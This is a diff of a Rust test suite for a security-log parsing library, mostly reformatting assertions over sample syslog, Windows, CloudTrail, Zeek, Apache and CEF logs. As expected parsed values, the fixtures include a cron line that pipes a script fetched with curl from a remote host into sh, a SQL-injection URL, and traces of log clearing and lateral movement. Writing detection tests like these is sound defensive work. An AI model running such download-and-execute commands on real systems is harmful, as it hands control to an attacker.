@@ -11,49 +11,113 @@ fn syslog_sample_maps_auth_events_and_rolls_over_the_year() {
     let read = read_path(&sample("auth.log"), &year(2023));
     assert_eq!((read.summary.parsed, read.summary.rejected), (31, 0));
     let e = &read.events;
-    assert_eq!(text(&e[0], "@timestamp").as_deref(), Some("2023-12-31T23:58:01Z"));
-    assert_eq!(text(&e[8], "@timestamp").as_deref(), Some("2024-01-01T00:00:07Z"), "New Year rollover");
+    assert_eq!(
+        text(&e[0], "@timestamp").as_deref(),
+        Some("2023-12-31T23:58:01Z")
+    );
+    assert_eq!(
+        text(&e[8], "@timestamp").as_deref(),
+        Some("2024-01-01T00:00:07Z"),
+        "New Year rollover"
+    );
     assert_eq!(e[2].get("event.count").and_then(|v| v.as_i64()), Some(2));
-    let action = |a: &str| e.iter().find(|x| x.get_str("event.action") == Some(a)).unwrap_or_else(|| panic!("no {a}"));
+    let action = |a: &str| {
+        e.iter()
+            .find(|x| x.get_str("event.action") == Some(a))
+            .unwrap_or_else(|| panic!("no {a}"))
+    };
     let accepted = action("ssh_login");
     assert_eq!(accepted.get_str("user.name"), Some("oracle"));
-    let login_ok = e.iter().find(|x| x.get_str("event.action") == Some("ssh_login") && x.get_str("event.outcome") == Some("success")).unwrap();
-    assert_eq!(login_ok.get_str("system.auth.ssh.method"), Some("publickey"));
+    let login_ok = e
+        .iter()
+        .find(|x| {
+            x.get_str("event.action") == Some("ssh_login")
+                && x.get_str("event.outcome") == Some("success")
+        })
+        .unwrap();
+    assert_eq!(
+        login_ok.get_str("system.auth.ssh.method"),
+        Some("publickey")
+    );
     assert_eq!(text(login_ok, "source.port").as_deref(), Some("40022"));
     let sudo = action("sudo_command");
     assert_eq!(sudo.get_str("user.effective.name"), Some("root"));
-    assert_eq!(sudo.get_str("process.command_line"), Some("/usr/sbin/useradd -m -s /bin/bash svc-backup"));
+    assert_eq!(
+        sudo.get_str("process.command_line"),
+        Some("/usr/sbin/useradd -m -s /bin/bash svc-backup")
+    );
     let created = action("user_created");
-    assert_eq!((created.get_str("user.name"), created.get_str("user.id")), (Some("svc-backup"), Some("1002")));
+    assert_eq!(
+        (created.get_str("user.name"), created.get_str("user.id")),
+        (Some("svc-backup"), Some("1002"))
+    );
     let group = action("user_added_to_group");
     assert_eq!(group.get_str("group.name"), Some("sudo"));
-    assert_eq!(action("cron_command").get_str("process.command_line"), Some("/usr/bin/curl -fsS http://203.0.113.80/u.sh | sh"));
-    assert_eq!(action("sudo_auth_failure").get("event.count").and_then(|v| v.as_i64()), Some(3));
+    assert_eq!(
+        action("cron_command").get_str("process.command_line"),
+        Some("/usr/bin/curl -fsS http://203.0.113.80/u.sh | sh")
+    );
+    assert_eq!(
+        action("sudo_auth_failure")
+            .get("event.count")
+            .and_then(|v| v.as_i64()),
+        Some(3)
+    );
     assert_eq!(action("su").get_str("user.effective.name"), Some("root"));
-    assert_eq!(action("session_started").get_str("user.name"), Some("deploy"));
-    assert_eq!(action("pam_authentication_failure").get_str("user.name"), Some("root"));
-    assert!(e.iter().filter(|x| x.get_str("event.dataset") == Some("system.syslog")).count() == 1, "only the kernel line is unmapped");
+    assert_eq!(
+        action("session_started").get_str("user.name"),
+        Some("deploy")
+    );
+    assert_eq!(
+        action("pam_authentication_failure").get_str("user.name"),
+        Some("root")
+    );
+    assert!(
+        e.iter()
+            .filter(|x| x.get_str("event.dataset") == Some("system.syslog"))
+            .count()
+            == 1,
+        "only the kernel line is unmapped"
+    );
 }
 
 #[test]
 fn syslog_year_defaults_to_file_time() {
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("auth.log");
-    std::fs::write(&path, "Mar  3 10:00:00 h sshd[1]: Invalid user a from 192.0.2.1\n").unwrap();
+    std::fs::write(
+        &path,
+        "Mar  3 10:00:00 h sshd[1]: Invalid user a from 192.0.2.1\n",
+    )
+    .unwrap();
     let year_2019 = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_560_000_000); // June 2019
-    std::fs::File::options().write(true).open(&path).unwrap().set_modified(year_2019).unwrap();
+    std::fs::File::options()
+        .write(true)
+        .open(&path)
+        .unwrap()
+        .set_modified(year_2019)
+        .unwrap();
     let read = read_path(&path, &Options::default());
-    assert_eq!(text(&read.events[0], "@timestamp").as_deref(), Some("2019-03-03T10:00:00Z"));
+    assert_eq!(
+        text(&read.events[0], "@timestamp").as_deref(),
+        Some("2019-03-03T10:00:00Z")
+    );
 }
 
 #[test]
 fn rfc5424_sample_keeps_structured_data() {
     let read = read_path(&sample("syslog5424.log"), &Options::default());
     assert_eq!((read.summary.parsed, read.summary.rejected), (3, 0));
-    assert_eq!(text(&read.events[0], "@timestamp").as_deref(), Some("2024-05-14T07:12:44.203511Z"));
+    assert_eq!(
+        text(&read.events[0], "@timestamp").as_deref(),
+        Some("2024-05-14T07:12:44.203511Z")
+    );
     assert_eq!(read.events[0].get_str("event.outcome"), Some("success"));
     assert_eq!(read.events[1].get_str("user.name"), Some("alice"));
-    assert_eq!(read.events[2].get_str("log.syslog.structured_data.exampleSDID@32473.eventSource"), Some("Billing\"Q2\""));
+    assert_eq!(
+        read.events[2].get_str("log.syslog.structured_data.exampleSDID@32473.eventSource"),
+        Some("Billing\"Q2\"")
+    );
 }
 
 #[test]
@@ -63,14 +127,28 @@ fn binary_data_read_as_syslog_is_rejected_line_by_line() {
     bytes.extend_from_slice(&[0x7f, b'E', b'L', b'F', 2, 1, 1, 0, b'\n']);
     let mut events = 0;
     let mut rejected = Vec::new();
-    let summary = secops_ingest::read_bytes(Format::Syslog, "blob.bin", &bytes, &year(2016), &mut |r| match r {
-        Ok(_) => events += 1,
-        Err(r) => rejected.push(r.to_string()),
-    });
+    let summary = secops_ingest::read_bytes(
+        Format::Syslog,
+        "blob.bin",
+        &bytes,
+        &year(2016),
+        &mut |r| match r {
+            Ok(_) => events += 1,
+            Err(r) => rejected.push(r.to_string()),
+        },
+    );
     assert_eq!((summary.read, summary.parsed, summary.rejected), (3, 1, 2));
     assert_eq!(events, 1);
-    assert!(rejected[0].starts_with("blob.bin:1: not syslog"), "{}", rejected[0]);
-    assert!(rejected[1].starts_with("blob.bin:3: not syslog"), "{}", rejected[1]);
+    assert!(
+        rejected[0].starts_with("blob.bin:1: not syslog"),
+        "{}",
+        rejected[0]
+    );
+    assert!(
+        rejected[1].starts_with("blob.bin:3: not syslog"),
+        "{}",
+        rejected[1]
+    );
 }
 
 #[test]
@@ -78,8 +156,14 @@ fn undetectable_binary_file_is_an_error_naming_it() {
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("core.dump");
     std::fs::write(&path, [0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0, 0]).unwrap();
-    let err = read_input(&Input::File(path.clone()), &Options::default(), &mut |_| {}).err().unwrap().to_string();
-    assert!(err.contains("core.dump") && err.contains("binary data") && err.contains("--format"), "{err}");
+    let err = read_input(&Input::File(path.clone()), &Options::default(), &mut |_| {})
+        .err()
+        .unwrap()
+        .to_string();
+    assert!(
+        err.contains("core.dump") && err.contains("binary data") && err.contains("--format"),
+        "{err}"
+    );
 }
 
 #[test]
@@ -87,19 +171,52 @@ fn json_lines_pass_ecs_through_and_reject_bad_lines_with_their_number() {
     let read = read_path(&sample("ecs.jsonl"), &Options::default());
     assert_eq!((read.summary.parsed, read.summary.rejected), (3, 0));
     let e = &read.events;
-    assert_eq!(text(&e[0], "source.ip").as_deref(), Some("203.0.113.9"), "nested ECS resolves by dotted path");
-    assert_eq!(text(&e[0], "@timestamp").as_deref(), Some("2024-05-14T11:00:00.250Z"));
-    assert_eq!(text(&e[1], "@timestamp").as_deref(), Some("2024-05-14T11:01:01Z"), "epoch milliseconds");
+    assert_eq!(
+        text(&e[0], "source.ip").as_deref(),
+        Some("203.0.113.9"),
+        "nested ECS resolves by dotted path"
+    );
+    assert_eq!(
+        text(&e[0], "@timestamp").as_deref(),
+        Some("2024-05-14T11:00:00.250Z")
+    );
+    assert_eq!(
+        text(&e[1], "@timestamp").as_deref(),
+        Some("2024-05-14T11:01:01Z"),
+        "epoch milliseconds"
+    );
     assert_eq!(text(&e[2], "client.ip").as_deref(), Some("198.51.100.77"));
-    assert_eq!(text(&e[2], "@timestamp").as_deref(), Some("2024-05-14T09:02:00Z"));
+    assert_eq!(
+        text(&e[2], "@timestamp").as_deref(),
+        Some("2024-05-14T09:02:00Z")
+    );
 
-    let bad = read_text(Format::Json, "{\"a\": 1}\n{\"a\": 2,,}\nnot json\n[1, 2]\n{\"@timestamp\": \"soon\"}\n{\"a\": 3}\n", &Options::default());
-    assert_eq!((bad.summary.read, bad.summary.parsed, bad.summary.rejected), (7, 2, 5));
+    let bad = read_text(
+        Format::Json,
+        "{\"a\": 1}\n{\"a\": 2,,}\nnot json\n[1, 2]\n{\"@timestamp\": \"soon\"}\n{\"a\": 3}\n",
+        &Options::default(),
+    );
+    assert_eq!(
+        (bad.summary.read, bad.summary.parsed, bad.summary.rejected),
+        (7, 2, 5)
+    );
     let messages: Vec<String> = bad.rejections.iter().map(|r| r.to_string()).collect();
-    assert!(messages[0].starts_with("test.log:2: invalid JSON"), "{messages:?}");
-    assert!(messages[1].starts_with("test.log:3: invalid JSON"), "{messages:?}");
-    assert_eq!(messages[2], "test.log:4 record 0: expected a JSON object, found a number");
-    assert!(messages[4].starts_with("test.log:5: invalid JSON: @timestamp soon"), "{messages:?}");
+    assert!(
+        messages[0].starts_with("test.log:2: invalid JSON"),
+        "{messages:?}"
+    );
+    assert!(
+        messages[1].starts_with("test.log:3: invalid JSON"),
+        "{messages:?}"
+    );
+    assert_eq!(
+        messages[2],
+        "test.log:4 record 0: expected a JSON object, found a number"
+    );
+    assert!(
+        messages[4].starts_with("test.log:5: invalid JSON: @timestamp soon"),
+        "{messages:?}"
+    );
 }
 
 #[test]
@@ -110,7 +227,13 @@ fn pretty_printed_json_documents_span_lines_and_an_unclosed_one_is_rejected() {
     assert_eq!(read.events[0].provenance().to_string(), "test.log:1");
     assert_eq!(text(&read.events[0], "a.b").as_deref(), Some("1"));
     assert_eq!(read.events[1].provenance().to_string(), "test.log:6");
-    assert!(read.rejections[0].to_string().starts_with("test.log:7: invalid JSON: document starting here"), "{}", read.rejections[0]);
+    assert!(
+        read.rejections[0]
+            .to_string()
+            .starts_with("test.log:7: invalid JSON: document starting here"),
+        "{}",
+        read.rejections[0]
+    );
 }
 
 #[test]
@@ -118,22 +241,47 @@ fn windows_json_normalizes_string_ids_and_text_attributes() {
     let read = read_path(&sample("windows.jsonl"), &Options::default());
     assert_eq!((read.summary.parsed, read.summary.rejected), (4, 0));
     let e = &read.events;
-    assert_eq!(e[0].get("Event.System.EventID").and_then(|v| v.as_i64()), Some(4625));
-    assert!(matches!(e[0].get("Event.System.EventID"), Some(secops_event::Value::Int(4625))), "string ids become numbers");
+    assert_eq!(
+        e[0].get("Event.System.EventID").and_then(|v| v.as_i64()),
+        Some(4625)
+    );
+    assert!(
+        matches!(
+            e[0].get("Event.System.EventID"),
+            Some(secops_event::Value::Int(4625))
+        ),
+        "string ids become numbers"
+    );
     assert_eq!(e[0].get_str("event.outcome"), Some("failure"));
     assert_eq!(e[0].get_str("user.name"), Some("administrator"));
     assert_eq!(text(&e[0], "source.ip").as_deref(), Some("198.51.100.23"));
     assert_eq!(text(&e[0], "winlog.record_id").as_deref(), Some("88120"));
     assert_eq!(e[1].get_str("process.name"), Some("powershell.exe"));
     assert_eq!(e[1].get_str("process.parent.name"), Some("WINWORD.EXE"));
-    assert_eq!(e[1].get_str("process.hash.sha256"), Some("DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C"));
-    assert_eq!((e[1].get_str("user.domain"), e[1].get_str("user.name")), (Some("CORP"), Some("jdoe")));
+    assert_eq!(
+        e[1].get_str("process.hash.sha256"),
+        Some("DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C")
+    );
+    assert_eq!(
+        (e[1].get_str("user.domain"), e[1].get_str("user.name")),
+        (Some("CORP"), Some("jdoe"))
+    );
     assert_eq!(e[1].get_str("event.dataset"), Some("windows.sysmon"));
-    assert_eq!(e[2].get("Event.System.EventID").and_then(|v| v.as_i64()), Some(7045), "#text wins over #attributes");
-    assert_eq!(text(&e[2], "Event.System.EventID_attributes.Qualifiers").as_deref(), Some("16384"));
+    assert_eq!(
+        e[2].get("Event.System.EventID").and_then(|v| v.as_i64()),
+        Some(7045),
+        "#text wins over #attributes"
+    );
+    assert_eq!(
+        text(&e[2], "Event.System.EventID_attributes.Qualifiers").as_deref(),
+        Some("16384")
+    );
     assert_eq!(e[2].get_str("service.name"), Some("PSEXESVC"));
     assert_eq!(e[3].get_str("event.action"), Some("audit-log-cleared"));
-    assert_eq!(e[3].get_str("Event.UserData.LogFileCleared.SubjectUserName"), Some("Administrator"));
+    assert_eq!(
+        e[3].get_str("Event.UserData.LogFileCleared.SubjectUserName"),
+        Some("Administrator")
+    );
 
     let bad = read_text(
         Format::Json,
@@ -141,8 +289,14 @@ fn windows_json_normalizes_string_ids_and_text_attributes() {
         &Options::default(),
     );
     assert_eq!(bad.summary.rejected, 2);
-    assert_eq!(bad.rejections[0].to_string(), "test.log:1: not Windows event: Event.System.EventID missing or not a number");
-    assert_eq!(bad.rejections[1].to_string(), "test.log:2: not Windows event: Event.System.TimeCreated SystemTime missing");
+    assert_eq!(
+        bad.rejections[0].to_string(),
+        "test.log:1: not Windows event: Event.System.EventID missing or not a number"
+    );
+    assert_eq!(
+        bad.rejections[1].to_string(),
+        "test.log:2: not Windows event: Event.System.TimeCreated SystemTime missing"
+    );
 }
 
 #[test]
@@ -153,19 +307,42 @@ fn cloudtrail_document_and_lines_map_identity_and_outcome() {
     assert_eq!((doc.summary.parsed, lines.summary.parsed), (4, 4));
     for e in [&doc.events, &lines.events] {
         assert_eq!(e[0].get_str("event.category"), Some("authentication"));
-        assert_eq!(e[0].get_str("aws.cloudtrail.console_login.mfa_used").or(None), None);
-        assert_eq!(e[0].get("aws.cloudtrail.console_login.mfa_used").map(|v| v.to_string()).as_deref(), Some("false"));
+        assert_eq!(
+            e[0].get_str("aws.cloudtrail.console_login.mfa_used")
+                .or(None),
+            None
+        );
+        assert_eq!(
+            e[0].get("aws.cloudtrail.console_login.mfa_used")
+                .map(|v| v.to_string())
+                .as_deref(),
+            Some("false")
+        );
         assert_eq!(e[1].get_str("user.name"), Some("root"));
         assert_eq!(e[1].get_str("event.action"), Some("StopLogging"));
-        assert_eq!(e[2].get_str("requestParameters.ipPermissions.items").is_none(), true);
+        assert_eq!(
+            e[2].get_str("requestParameters.groupId"),
+            Some("sg-0a1b2c3d4e5f67890"),
+            "original fields resolve by path"
+        );
         assert_eq!(e[3].get_str("event.outcome"), Some("failure"));
         assert_eq!(e[3].get_str("user.name"), Some("deployer"));
         assert_eq!(e[3].get_str("source.address"), Some("ec2.amazonaws.com"));
     }
-    assert_eq!(doc.events[2].provenance().to_string(), format!("{}:1 record 2", sample("cloudtrail.json").display()));
-    let bad = read_text(Format::CloudTrail, "{\"Records\": [{\"eventName\": \"X\"}, 5]}\n", &Options::default());
+    assert_eq!(
+        doc.events[2].provenance().to_string(),
+        format!("{}:1 record 2", sample("cloudtrail.json").display())
+    );
+    let bad = read_text(
+        Format::CloudTrail,
+        "{\"Records\": [{\"eventName\": \"X\"}, 5]}\n",
+        &Options::default(),
+    );
     assert_eq!(bad.summary.rejected, 2);
-    assert_eq!(bad.rejections[0].to_string(), "test.log:1 record 0: not CloudTrail: eventTime missing");
+    assert_eq!(
+        bad.rejections[0].to_string(),
+        "test.log:1 record 0: not CloudTrail: eventTime missing"
+    );
 }
 
 #[test]
@@ -174,42 +351,98 @@ fn zeek_tsv_and_json_are_typed_and_mapped() {
     assert_eq!((conn.summary.parsed, conn.summary.rejected), (16, 0));
     let first = &conn.events[0];
     assert_eq!(first.get_str("event.dataset"), Some("zeek.conn"));
-    assert!(matches!(first.get("source.ip"), Some(secops_event::Value::Ip(_))));
-    assert!(matches!(first.get("id.resp_p"), Some(secops_event::Value::Int(8443))));
+    assert!(matches!(
+        first.get("source.ip"),
+        Some(secops_event::Value::Ip(_))
+    ));
+    assert!(matches!(
+        first.get("id.resp_p"),
+        Some(secops_event::Value::Int(8443))
+    ));
     assert_eq!(first.get_str("network.transport"), Some("tcp"));
-    assert!(conn.events.iter().any(|e| e.get("duration").is_none()), "unset `-` fields are left out");
+    assert!(
+        conn.events.iter().any(|e| e.get("duration").is_none()),
+        "unset `-` fields are left out"
+    );
     let dns = read_path(&sample("zeek/dns.log"), &Options::default());
-    assert_eq!(dns.events[0].get("dns.answers.data").and_then(|v| v.as_array()).map(|a| a.len()), Some(2));
+    assert_eq!(
+        dns.events[0]
+            .get("dns.answers.data")
+            .and_then(|v| v.as_array())
+            .map(|a| a.len()),
+        Some(2)
+    );
     assert_eq!(dns.events[1].get_str("dns.response_code"), Some("NXDOMAIN"));
-    for (file, dataset) in [("zeek/http.log", "zeek.http"), ("zeek/ssl.log", "zeek.ssl"), ("zeek/files.log", "zeek.files")] {
+    for (file, dataset) in [
+        ("zeek/http.log", "zeek.http"),
+        ("zeek/ssl.log", "zeek.ssl"),
+        ("zeek/files.log", "zeek.files"),
+    ] {
         let read = read_path(&sample(file), &Options::default());
         assert_eq!(read.events[0].get_str("event.dataset"), Some(dataset));
     }
     let json = read_path(&sample("zeek/dns.json"), &Options::default());
-    assert_eq!(json.events[0].get_str("dns.question.name"), Some("login.microsoftonline.com"));
-    assert_eq!(json.events[1].get_str("event.dataset"), Some("zeek.conn"), "path inferred from fields");
-    assert_eq!(json.events[1].get("event.duration").and_then(|v| v.as_i64()), Some(1_200_000_000));
+    assert_eq!(
+        json.events[0].get_str("dns.question.name"),
+        Some("login.microsoftonline.com")
+    );
+    assert_eq!(
+        json.events[1].get_str("event.dataset"),
+        Some("zeek.conn"),
+        "path inferred from fields"
+    );
+    assert_eq!(
+        json.events[1]
+            .get("event.duration")
+            .and_then(|v| v.as_i64()),
+        Some(1_200_000_000)
+    );
 
     let bad = read_text(Format::Zeek, "1.0\tx\n#separator \\x09\n#fields\tts\tuid\n#types\ttime\tstring\n1.5\tC1\n2.5\tC2\textra\n", &Options::default());
     assert_eq!((bad.summary.parsed, bad.summary.rejected), (1, 2));
-    assert_eq!(bad.rejections[0].to_string(), "test.log:1: Zeek row before any #fields header");
-    assert_eq!(bad.rejections[1].to_string(), "test.log:6: Zeek row has 3 fields, the #fields header declares 2");
+    assert_eq!(
+        bad.rejections[0].to_string(),
+        "test.log:1: Zeek row before any #fields header"
+    );
+    assert_eq!(
+        bad.rejections[1].to_string(),
+        "test.log:6: Zeek row has 3 fields, the #fields header declares 2"
+    );
 }
 
 #[test]
 fn access_and_error_logs_parse_and_reject_garbage() {
     let access = read_path(&sample("access.log"), &Options::default());
     assert_eq!((access.summary.parsed, access.summary.rejected), (9, 0));
-    assert_eq!(access.events[2].get_str("user_agent.original"), Some("sqlmap/1.7.2#stable (https://sqlmap.org)"));
+    assert_eq!(
+        access.events[2].get_str("user_agent.original"),
+        Some("sqlmap/1.7.2#stable (https://sqlmap.org)")
+    );
     assert_eq!(access.events[6].get_str("user.name"), Some("admin"));
-    assert_eq!(text(&access.events[8], "source.ip").as_deref(), Some("2001:db8::5"));
+    assert_eq!(
+        text(&access.events[8], "source.ip").as_deref(),
+        Some("2001:db8::5")
+    );
     let error = read_path(&sample("apache_error.log"), &Options::default());
     assert_eq!((error.summary.parsed, error.summary.rejected), (5, 0));
-    let bad = read_text(Format::ApacheAccess, "garbage\n192.0.2.1 - - [14/May/2024:09:20:01 +0000] \"GET / HTTP/1.1\" 200 1\n", &Options::default());
+    let bad = read_text(
+        Format::ApacheAccess,
+        "garbage\n192.0.2.1 - - [14/May/2024:09:20:01 +0000] \"GET / HTTP/1.1\" 200 1\n",
+        &Options::default(),
+    );
     assert_eq!((bad.summary.parsed, bad.summary.rejected), (1, 1));
-    assert_eq!(bad.rejections[0].to_string(), "test.log:1: not an access log line: no ident field");
-    let bad = read_text(Format::ApacheError, "[nope] [error] x\n", &Options::default());
-    assert!(bad.rejections[0].to_string().starts_with("test.log:1: not an Apache error log line"));
+    assert_eq!(
+        bad.rejections[0].to_string(),
+        "test.log:1: not an access log line: no ident field"
+    );
+    let bad = read_text(
+        Format::ApacheError,
+        "[nope] [error] x\n",
+        &Options::default(),
+    );
+    assert!(bad.rejections[0]
+        .to_string()
+        .starts_with("test.log:1: not an Apache error log line"));
 }
 
 #[test]
@@ -218,19 +451,38 @@ fn cef_alone_and_behind_syslog_with_escapes() {
     assert_eq!((read.summary.parsed, read.summary.rejected), (3, 0));
     let e = &read.events;
     assert_eq!(e[0].get_str("observer.vendor"), Some("Palo Alto Networks"));
-    assert_eq!(e[0].get_str("url.original"), Some("https://shop.example.com/products.php?id=1 UNION SELECT"));
+    assert_eq!(
+        e[0].get_str("url.original"),
+        Some("https://shop.example.com/products.php?id=1 UNION SELECT")
+    );
     assert_eq!(e[0].get_str("cef.extensions.cs1Label"), Some("Rule"));
-    assert_eq!(text(&e[0], "@timestamp").as_deref(), Some("2024-05-14T09:21:13Z"));
+    assert_eq!(
+        text(&e[0], "@timestamp").as_deref(),
+        Some("2024-05-14T09:21:13Z")
+    );
     assert_eq!(e[1].get_str("host.name"), Some("fw01"));
     assert_eq!(e[1].get("event.severity").and_then(|v| v.as_i64()), Some(6));
     assert_eq!(e[1].get_str("source.user.name"), Some("CORP\\jdoe"));
     assert_eq!(e[1].get_str("event.outcome"), Some("failure"));
     assert_eq!(e[2].get_str("cef.device.product"), Some("threat|manager"));
-    assert_eq!(e[2].get_str("message"), Some("Detected a threat.\nNo action needed"));
-    let bad = read_text(Format::Cef, "CEF:0|only|three\nno cef here\n", &Options::default());
+    assert_eq!(
+        e[2].get_str("message"),
+        Some("Detected a threat.\nNo action needed")
+    );
+    let bad = read_text(
+        Format::Cef,
+        "CEF:0|only|three\nno cef here\n",
+        &Options::default(),
+    );
     assert_eq!(bad.summary.rejected, 2);
-    assert_eq!(bad.rejections[0].to_string(), "test.log:1: not CEF: fewer than 7 |-separated header fields");
-    assert_eq!(bad.rejections[1].to_string(), "test.log:2: not CEF: no CEF: header");
+    assert_eq!(
+        bad.rejections[0].to_string(),
+        "test.log:1: not CEF: fewer than 7 |-separated header fields"
+    );
+    assert_eq!(
+        bad.rejections[1].to_string(),
+        "test.log:2: not CEF: no CEF: header"
+    );
 }
 
 #[test]
@@ -238,9 +490,16 @@ fn gzip_inputs_are_detected_after_decompression() {
     use std::io::Write;
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("auth.log.1.gz");
-    let mut gz = flate2::write::GzEncoder::new(std::fs::File::create(&path).unwrap(), flate2::Compression::default());
-    gz.write_all(&std::fs::read(sample("auth.log")).unwrap()).unwrap();
+    let mut gz = flate2::write::GzEncoder::new(
+        std::fs::File::create(&path).unwrap(),
+        flate2::Compression::default(),
+    );
+    gz.write_all(&std::fs::read(sample("auth.log")).unwrap())
+        .unwrap();
     gz.finish().unwrap();
     let read = read_path(&path, &year(2023));
-    assert_eq!((read.summary.format, read.summary.parsed), (Format::Syslog, 31));
+    assert_eq!(
+        (read.summary.format, read.summary.parsed),
+        (Format::Syslog, 31)
+    );
 }
